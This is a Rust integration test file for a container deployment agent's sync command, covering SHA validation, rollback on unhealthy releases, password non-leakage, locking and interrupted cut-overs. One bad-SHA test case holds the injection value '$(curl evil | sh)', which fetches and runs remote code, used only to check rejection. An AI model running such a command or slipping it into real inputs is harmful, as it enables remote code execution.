//! `blog-agent sync` end to end against the real local stack: dockerd, an htpasswd registry
//! that accepts moto's ECR token, moto for S3 and ECR, and an IMDSv2 stand-in.
//! Run `scripts/stack-up.sh` first (`make test` does).

mod common;

use common::imds::FakeImds;
use common::*;
use std::process::Stdio;
use std::time::Duration;

fn assert_code(run: &Run, code: i32) {
    assert_eq!(run.code, code, "exit code; output:\n{}", run.output());
}

#[test]
fn cold_start_pulls_verifies_and_serves() {
    let host = Host::new("cold_start");
    let sha = host.release("good");
    let run = host.agent(&["--env", "staging", "sync", "--json"]);
    assert_code(&run, 0);
    host.assert_serves(&sha);
    let report: serde_json::Value = serde_json::from_str(run.stdout.trim()).expect("--json prints one object");
    assert_eq!(report["sha"], sha.as_str());
    assert_eq!(report["environment"], "staging");
    assert_eq!(report["action"]["deployed"]["pulled"], true);
    assert_eq!(host.label("io.blog-agent.sha"), sha);
    assert!(host.label("io.blog-agent.digest").starts_with("sha256:"));
    assert_eq!(host.label("io.blog-agent.environment"), "staging");
    assert_eq!(docker_ok(&["inspect", "-f", "{{.HostConfig.RestartPolicy.Name}}", &host.container]), "unless-stopped");
    // Only the serving container is left: the candidate and the -next name are gone.
    host.assert_only_the_serving_container();
}

#[test]
fn second_sync_changes_nothing() {
    let host = Host::new("second_sync");
    let sha = host.release("good");
    assert_code(&host.sync(), 0);
    let before = host.container_state().unwrap();
    let run = host.sync();
    assert_code(&run, 0);
    assert!(run.stderr.contains("already running"), "{}", run.stderr);
    assert_eq!(host.container_state().unwrap(), before, "no restart");
    host.assert_serves(&sha);
}

#[test]
fn new_sha_replaces_and_serves() {
    let host = Host::new("new_sha");
    let old = host.release("good");
    assert_code(&host.sync(), 0);
    let (old_id, ..) = host.container_state().unwrap();
    let new = host.release("good");
    let run = host.sync();
    assert_code(&run, 0);
    host.assert_serves(&new);
    assert!(run.stderr.contains(&format!("running {old}")), "{}", run.stderr);
    assert_ne!(host.container_state().unwrap().0, old_id);
    host.assert_only_the_serving_container();
}

#[test]
fn bad_sha_forms_change_nothing() {
    let host = Host::new("bad_sha");
    let good = host.release("good");
    assert_code(&host.sync(), 0);
    let before = host.container_state().unwrap();
    let cases: Vec<(Vec<u8>, &str)> = vec![
        (b"".to_vec(), "it is empty"),
        (b"latest\n".to_vec(), "\"latest\""),
        (b"blog:1.2.3".to_vec(), "\"blog:1.2.3\""),
        (b"team/deadbeef".to_vec(), "\"team/deadbeef\""),
        (b"$(curl evil | sh)".to_vec(), "characters other than"),
        (b"DEADBEEF".to_vec(), "uppercase"),
        (vec![b'a'; 10 * 1024 * 1024], "10485760 bytes"),
    ];
    for (content, want) in cases {
        host.put_object("staging/stagebuild.txt", content);
        let run = host.sync();
        assert_code(&run, 1);
        let uri = format!("s3://{}/staging/stagebuild.txt", host.bucket);
        assert!(run.stderr.contains(&uri) && run.stderr.contains(want), "want {want:?}:\n{}", run.stderr);
        assert!(run.stderr.contains("nothing was changed"), "{}", run.stderr);
        let error_line = run.stderr.lines().find(|l| l.contains("error:")).unwrap();
        assert!(error_line.len() < 400, "one short line: {error_line}");
        assert_eq!(host.container_state().unwrap(), before);
        host.assert_serves(&good);
    }
}

#[test]
fn missing_key_and_missing_bucket_are_named() {
    let host = Host::new("missing_key");
    let run = host.sync();
    assert_code(&run, 1);
    assert!(
        run.stderr.contains(&format!("s3://{}/staging/stagebuild.txt does not exist", host.bucket)),
        "{}",
        run.stderr
    );
    host.write_config("");
    std::fs::write(
        &host.config,
        std::fs::read_to_string(&host.config).unwrap().replace(&host.bucket, "no-such-bucket-ba"),
    )
    .unwrap();
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains("bucket \"no-such-bucket-ba\" does not exist"), "{}", run.stderr);
    assert!(host.containers().is_empty());
}

#[test]
fn image_tag_absent_from_registry_keeps_the_old_version() {
    let host = Host::new("tag_absent");
    let good = host.release("good");
    assert_code(&host.sync(), 0);
    let before = host.container_state().unwrap();
    let missing = unique_sha("never-pushed");
    host.put_release("staging", &missing);
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains(&format!("pulling {}", host.image(&missing))), "{}", run.stderr);
    assert_eq!(host.container_state().unwrap(), before);
    host.assert_serves(&good);
}

#[test]
fn wrong_registry_password_fails_without_leaking_it() {
    let mut host = Host::new("bad_password");
    host.registry = badauth_registry();
    host.write_config("");
    let sha = unique_sha("badauth");
    host.put_release("staging", &sha);
    // --debug too: the password must not show up even in verbose output.
    let run = host.agent(&["--debug", "--env", "staging", "sync"]);
    assert_code(&run, 1);
    assert!(run.stderr.contains(&format!("pulling {}", host.image(&sha))), "{}", run.stderr);
    assert!(run.stderr.to_lowercase().contains("unauthorized") || run.stderr.contains("401"), "{}", run.stderr);
    assert!(host.containers().is_empty());
}

#[test]
fn container_that_exits_at_once_never_replaces_the_old_one() {
    let host = Host::new("crash_image");
    let good = host.release("good");
    assert_code(&host.sync(), 0);
    let before = host.container_state().unwrap();
    host.release("crash");
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains("failed its health probe before cut-over"), "{}", run.stderr);
    assert!(run.stderr.contains("exit code"), "{}", run.stderr);
    assert_eq!(host.container_state().unwrap(), before, "old container untouched");
    host.assert_serves(&good);
    host.assert_only_the_serving_container();
}

#[test]
fn container_serving_500_never_replaces_the_old_one() {
    let host = Host::new("http500_image");
    let good = host.release("good");
    assert_code(&host.sync(), 0);
    let before = host.container_state().unwrap();
    host.write_config("");
    std::fs::write(
        &host.config,
        std::fs::read_to_string(&host.config).unwrap().replace("timeout = \"10s\"", "timeout = \"2s\""),
    )
    .unwrap();
    host.release("http500");
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains("HTTP 500"), "{}", run.stderr);
    assert_eq!(host.container_state().unwrap(), before);
    host.assert_serves(&good);
}

#[test]
fn failure_after_cut_over_restores_the_previous_container() {
    let host = Host::new("cutover_rollback");
    let good = host.release("good");
    assert_code(&host.sync(), 0);
    let (old_id, ..) = host.container_state().unwrap();
    // The candidate passes (it is probed on the bridge, with no published port), but the
    // real container cannot start: its new host port is held by another process. The agent
    // must roll back to the old container, whose spec still publishes the old port.
    let _holder = host.point_at_a_held_port();
    let text = std::fs::read_to_string(&host.config).unwrap().replace("timeout = \"10s\"", "timeout = \"2s\"");
    std::fs::write(&host.config, text).unwrap();
    host.release("good");
    let run = host.sync();
    assert_code(&run, 1);
    // Docker could not start it here: named as this host's problem, not the release's probe.
    assert!(run.stderr.contains("could not start new version") && run.stderr.contains("restored"), "{}", run.stderr);
    assert!(run.stderr.contains("address already in use"), "{}", run.stderr);
    let (id, running, _) = host.container_state().unwrap();
    assert_eq!((id, running), (old_id, true), "previous container back, running");
    host.assert_serves(&good);
    host.assert_only_the_serving_container();
}

#[test]
fn environment_from_the_instance_tag() {
    let mut host = Host::new("env_from_tag");
    let imds = FakeImds::start(&[("Environment", "production")]);
    host.imds_endpoint = Some(imds.endpoint.clone());
    let sha = host.publish("good");
    host.put_release("production", &sha);
    host.put_release("staging", &unique_sha("not-this-one"));
    let run = host.agent(&["sync", "--json"]);
    assert_code(&run, 0);
    assert!(run.stdout.contains("\"environment_source\":\"tag\""), "{}", run.stdout);
    host.assert_serves(&sha);
    assert_eq!(host.label("io.blog-agent.environment"), "production");
    assert!(imds.tag_reads.load(std::sync::atomic::Ordering::SeqCst) >= 1);
}

#[test]
fn missing_tag_names_the_launch_template_fix() {
    let mut host = Host::new("tag_missing");
    let imds = FakeImds::start(&[("Name", "web-1")]);
    host.imds_endpoint = Some(imds.endpoint.clone());
    let run = host.agent(&["sync"]);
    assert_code(&run, 1);
    assert!(
        run.stderr.contains("\"Environment\" not found") && run.stderr.contains("InstanceMetadataTags=enabled"),
        "{}",
        run.stderr
    );
    assert!(host.containers().is_empty());
}

#[test]
fn tag_value_not_allowed_changes_nothing() {
    let mut host = Host::new("tag_not_allowed");
    let imds = FakeImds::start(&[("Environment", "prod")]);
    host.imds_endpoint = Some(imds.endpoint.clone());
    let run = host.agent(&["sync"]);
    assert_code(&run, 1);
    assert!(run.stderr.contains("environment \"prod\" (from tag) is not allowed"), "{}", run.stderr);
    assert!(run.stderr.contains("staging, production"), "{}", run.stderr);
    assert!(host.containers().is_empty());
}

#[test]
fn env_flag_overrides_the_tag() {
    let mut host = Host::new("env_flag");
    let imds = FakeImds::start(&[("Environment", "production")]);
    host.imds_endpoint = Some(imds.endpoint.clone());
    let sha = host.release("good");
    let run = host.agent(&["--env", "staging", "sync"]);
    assert_code(&run, 0);
    host.assert_serves(&sha);
    assert_eq!(imds.tag_reads.load(std::sync::atomic::Ordering::SeqCst), 0, "IMDS not consulted");
    let run = host.agent(&["--env", "qa", "sync"]);
    assert_code(&run, 2);
    assert!(run.stderr.contains("--env \"qa\""), "{}", run.stderr);
}

#[test]
fn config_errors_exit_78_and_name_the_problem() {
    let mut host = Host::new("config_errors");
    let cases = [
        ("[container]\nnmae = \"x\"\n", "unknown field `nmae`"),
        ("[reconcile]\ninterval = \"thirty seconds\"\n", "[reconcile] interval = \"thirty seconds\""),
    ];
    for (extra, want) in cases {
        let base = std::fs::read_to_string(&host.config).unwrap();
        // Replace the [container] table rather than repeat it.
        let text = if extra.starts_with("[container]") {
            base.replace("[container]\n", extra)
        } else {
            format!("{base}{extra}")
        };
        std::fs::write(&host.config, text).unwrap();
        let run = host.sync();
        assert_code(&run, 78);
        assert!(run.stderr.contains(want) && run.stderr.contains(&host.config.display().to_string()), "{}", run.stderr);
        host.write_config("");
    }
    host.config = host.path().join("nope.toml");
    let run = host.sync();
    assert_code(&run, 78);
    assert!(run.stderr.contains("not found"), "{}", run.stderr);
    assert!(host.containers().is_empty());
}

#[test]
fn bad_sha_flag_is_a_usage_error() {
    let host = Host::new("bad_sha_flag");
    let run = host.agent(&["--env", "staging", "sync", "--sha", "main"]);
    assert_code(&run, 2);
    assert!(run.stderr.contains("--sha \"main\""), "{}", run.stderr);
}

#[test]
fn sha_flag_skips_s3() {
    let host = Host::new("sha_flag");
    let sha = host.publish("good");
    // Nothing in S3 at all: the flag is enough.
    let run = host.agent(&["--env", "staging", "sync", "--sha", &sha]);
    assert_code(&run, 0);
    host.assert_serves(&sha);
}

/// A `--sha` that was never pushed (a typo of a real one) changes nothing: no pin is left
/// behind for `run` to chase, and an operator's earlier pause is kept as it was.
#[test]
fn a_mistyped_sha_flag_leaves_no_pin_behind() {
    let host = Host::new("sha_typo");
    let good = host.release("good");
    assert_code(&host.sync(), 0);
    let typo = format!("{}0", &good[..good.len() - 1]);
    let typo = if typo == good { format!("{}1", &good[..good.len() - 1]) } else { typo };
    let run = host.agent(&["--env", "staging", "sync", "--sha", &typo]);
    assert_code(&run, 1);
    assert!(!host.state_dir().join("pause.json").exists(), "a pin to {typo} was left: {}", run.output());
    assert!(!run.stderr.contains("automatic updates are now paused"), "{}", run.stderr);
    host.assert_serves(&good);
    // An earlier pause by hand is put back as it was.
    assert_code(&host.agent(&["pause", "--reason", "INC-9"]), 0);
    let before = std::fs::read_to_string(host.state_dir().join("pause.json")).unwrap();
    assert_code(&host.agent(&["--env", "staging", "sync", "--sha", &typo]), 1);
    assert_eq!(std::fs::read_to_string(host.state_dir().join("pause.json")).unwrap(), before);
}

#[test]
fn concurrent_syncs_do_not_race() {
    let host = Host::new("concurrent");
    let sha = host.release("good");
    let children: Vec<_> = (0..2)
        .map(|_| host.command(&["--env", "staging", "sync"]).stderr(std::process::Stdio::piped()).spawn().unwrap())
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    host.assert_serves(&sha);
    host.assert_only_the_serving_container();
}

#[test]
fn json_logs_carry_structured_fields() {
    let host = Host::new("json_logs");
    let sha = host.release("good");
    let run = host.agent(&["--log-format", "json", "--env", "staging", "sync"]);
    assert_code(&run, 0);
    let lines: Vec<serde_json::Value> = run
        .stderr
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    assert!(!lines.is_empty(), "{}", run.stderr);
    let deployed = lines
        .iter()
        .find(|l| l["message"].as_str().is_some_and(|m| m.starts_with("deployed and serving")))
        .expect("deploy line");
    assert_eq!(deployed["container"], host.container.as_str());
    assert_eq!(deployed["span"]["sha"], sha.as_str());
    assert_eq!(deployed["span"]["env"], "staging");
}

#[test]
fn second_sync_gives_up_clearly_when_the_lock_stays_held() {
    let host = Host::new("lock_busy");
    let text = std::fs::read_to_string(&host.config).unwrap();
    std::fs::write(&host.config, text.replace("[agent]\n", "[agent]\nlock_timeout = \"1s\"\n")).unwrap();
    host.release("good");
    std::fs::create_dir_all(host.state_dir()).unwrap();
    let lock = std::fs::OpenOptions::new()
        .create(true)
        .truncate(false)
        .write(true)
        .open(host.state_dir().join("reconcile.lock"))
        .unwrap();
    lock.lock().unwrap();
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains("another blog-agent holds") && run.stderr.contains("reconcile.lock"), "{}", run.stderr);
    assert!(host.containers().is_empty(), "nothing changed while locked out");
    lock.unlock().unwrap();
    assert_code(&host.sync(), 0);
}

#[test]
fn an_interrupted_cut_over_is_repaired_by_the_next_sync() {
    let host = Host::new("interrupted");
    let sha = host.release("good");
    assert_code(&host.sync(), 0);
    let (id, ..) = host.container_state().unwrap();
    // As if the agent died right after moving the old container aside.
    docker_ok(&["stop", "-t", "1", &host.container]);
    docker_ok(&["rename", &host.container, &format!("{}-previous", host.container)]);
    let run = host.sync();
    assert_code(&run, 0);
    assert_eq!(host.container_state().unwrap().0, id, "the previous container itself is back");
    host.assert_serves(&sha);
    host.assert_only_the_serving_container();
}

#[test]
fn an_interrupted_cut_over_to_an_unhealthy_version_restores_the_previous_one() {
    let host = Host::new("interrupted_bad");
    let text = std::fs::read_to_string(&host.config).unwrap().replace("timeout = \"10s\"", "timeout = \"3s\"");
    std::fs::write(&host.config, text).unwrap();
    let sha = host.release("good");
    assert_code(&host.sync(), 0);
    let (id, ..) = host.container_state().unwrap();
    // As if the agent died after starting the new version and before proving it: the old one
    // stopped and set aside as -previous, a new one (serving HTTP 500) under the name.
    docker_ok(&["stop", "-t", "1", &host.container]);
    docker_ok(&["rename", &host.container, &format!("{}-previous", host.container)]);
    let broken = host.image(&host.publish("http500"));
    docker_ok(&["pull", "-q", &broken]);
    let port = format!("127.0.0.1:{}:80", host.port);
    let label = format!("{TEST_LABEL}={}", host.id);
    docker_ok(&[
        "run",
        "-d",
        "--name",
        &host.container,
        "-p",
        &port,
        "--label",
        &label,
        "--label",
        "io.blog-agent.managed=true",
        &broken,
    ]);

    let run = host.sync();
    assert_code(&run, 0);
    assert!(run.stderr.contains("unhealthy; restoring the previous one"), "{}", run.stderr);
    assert_eq!(host.container_state().unwrap().0, id, "the previous container itself is back");
    host.assert_serves(&sha);
    host.assert_only_the_serving_container();
}

#[test]
fn image_already_on_the_host_is_not_pulled_again() {
    let host = Host::new("no_repull");
    host.release("good");
    assert_code(&host.sync(), 0);
    docker_ok(&["rm", "-f", &host.container]);
    let run = host.agent(&["--env", "staging", "sync", "--json"]);
    assert_code(&run, 0);
    let report: serde_json::Value = serde_json::from_str(run.stdout.trim()).unwrap();
    assert_eq!(report["action"]["deployed"]["pulled"], false, "{report}");
}

#[test]
fn bad_release_on_an_empty_host_leaves_no_container() {
    let host = Host::new("cold_bad");
    let text = std::fs::read_to_string(&host.config).unwrap().replace("timeout = \"10s\"", "timeout = \"3s\"");
    std::fs::write(&host.config, text).unwrap();
    host.release("http500");
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains("HTTP 500") && run.stderr.contains("no previous container"), "{}", run.stderr);
    assert!(host.containers().is_empty(), "{:?}", host.containers());
}

#[test]
fn crashing_release_on_an_empty_host_fails_fast() {
    let host = Host::new("cold_crash");
    host.release("crash");
    let started = std::time::Instant::now();
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains("crashing") || run.stderr.contains("exit code"), "{}", run.stderr);
    // Detected by the crash, not by the 10 s health timeout (a generous bound, not a benchmark).
    assert!(started.elapsed() < std::time::Duration::from_secs(9), "took {:?}", started.elapsed());
    assert!(host.containers().is_empty(), "{:?}", host.containers());
}

#[test]
fn a_container_removed_during_the_cut_over_does_not_leave_the_host_dark() {
    let host = Host::new("sync_rm_mid_cutover");
    host.release("good");
    assert_code(&host.sync(), 0);
    // The new version needs 4 s to answer, so its candidate is probed long enough to remove
    // the serving container under the agent's feet.
    let v2 = host.release("slow");
    let mut sync =
        host.command(&["--env", "staging", "sync"]).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let candidate = format!("{}-candidate", host.container);
    wait_for("the candidate", Duration::from_secs(60), || {
        docker(&["inspect", "-f", "{{.Id}}", &candidate]).status.success().then_some(())
    });
    docker_ok(&["rm", "-f", &host.container]);
    let out = wait_for("sync to finish", Duration::from_secs(60), || sync.try_wait().unwrap());
    let mut stderr = String::new();
    std::io::Read::read_to_string(&mut sync.stderr.take().unwrap(), &mut stderr).unwrap();
    assert_eq!(out.code(), Some(0), "{stderr}");
    host.assert_serves(&v2);
    host.assert_only_the_serving_container();
}

#[test]
fn someone_elses_previous_container_is_never_removed_and_blocks_the_cut_over() {
    let host = Host::new("sync_foreign_previous");
    let v1 = host.release("good");
    assert_code(&host.sync(), 0);
    let foreign = format!("{}-previous", host.container);
    let label = format!("{TEST_LABEL}={}", host.id);
    docker_ok(&["create", "--name", &foreign, "--label", &label, &host.image(&v1)]);
    host.release("good");
    let run = host.sync();
    assert_code(&run, 1);
    assert!(run.stderr.contains(&foreign) && run.stderr.contains("did not create"), "{}", run.stderr);
    assert!(docker(&["inspect", &foreign]).status.success(), "the foreign container is untouched");
    host.assert_serves(&v1);
}
